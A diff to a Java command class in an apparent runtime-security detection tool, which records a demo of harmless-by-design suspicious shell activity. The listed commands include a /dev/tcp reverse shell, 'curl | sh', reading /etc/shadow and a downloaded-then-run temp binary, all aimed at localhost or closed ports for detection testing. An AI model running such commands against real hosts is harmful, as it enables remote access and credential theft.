@@ -31,7 +31,8 @@ import picocli.CommandLine.Spec;
 @Command(name = "record", mixinStandardHelpOptions = true,
     description = {"Record the events file `eyrie demo` replays when it cannot capture live (needs root/eBPF).",
         "A shell runs suspicious but harmless commands (reads /etc/shadow, a reverse-shell command line to a closed "
-            + "local port, a file created and removed below /etc, a program run from a temporary directory, "
+            + "local port, a file created and removed below /etc, a program downloaded (with curl, from a local file) to a "
+            + "temporary directory and run, "
             + "`curl | sh` against a closed port, a setuid bit on a temporary file); only its process tree is kept."})
 final class DemoRecordCommand implements Callable<Integer> {
   /** Each line is one step; every change it makes is undone by the same line. */
@@ -40,9 +41,11 @@ final class DemoRecordCommand implements Callable<Integer> {
       "cat /etc/shadow > /dev/null",
       "bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' 2>/dev/null",
       "touch /etc/eyrie-demo-recording; rm -f /etc/eyrie-demo-recording",
-      "d=$(mktemp -d); cp /bin/true \"$d/updater\"; \"$d/updater\"; rm -rf \"$d\"",
+      "d=$(mktemp -d); curl -so \"$d/updater\" file:///bin/true; chmod +x \"$d/updater\"; \"$d/updater\"; rm -rf \"$d\"",
       "sh -c 'curl -fsS http://127.0.0.1:9/install.sh | sh' 2>/dev/null",
       "f=$(mktemp); chmod u+s \"$f\"; rm -f \"$f\"",
+      // sequence alerts come once event time passes the last step by the jobs' out-of-orderness (5 s)
+      "sleep 6; ls / > /dev/null",
       "exit 0");
 
   static final String HOSTNAME = "demo-recording";
